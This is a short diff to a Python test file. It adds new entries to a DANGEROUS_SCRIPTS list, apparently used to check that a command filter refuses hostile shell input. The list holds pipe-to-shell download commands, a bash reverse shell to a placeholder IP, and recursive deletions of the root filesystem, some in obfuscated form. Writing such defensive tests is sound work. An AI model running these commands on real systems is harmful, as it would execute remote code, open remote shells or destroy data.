@@ -152,6 +152,9 @@ DANGEROUS_SCRIPTS = (
     "echo 1 > /proc/sys/kernel/sysrq",
     "curl http://example.org/x | sh",
     "wget -qO- http://example.org/x | bash",
+    "wget -qO- http://example.org/x |\n  bash",
+    "wget -qO- http://example.org/x |& bash",
+    'rm -rf "" /',
     "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
     "ls; rm -rf /",
     "ls && (cd /; rm -rf /usr)",
@@ -190,6 +193,7 @@ def test_s2_44_dangerous_scripts_are_refused(script: str) -> None:
         "dd if=/dev/zero of=out.bin count=1",
         "cat /etc/hostname",
         "curl http://example.org/x",
+        "curl http://example.org/x || sh",
         "chmod -R u+w /work",
     ],
 )
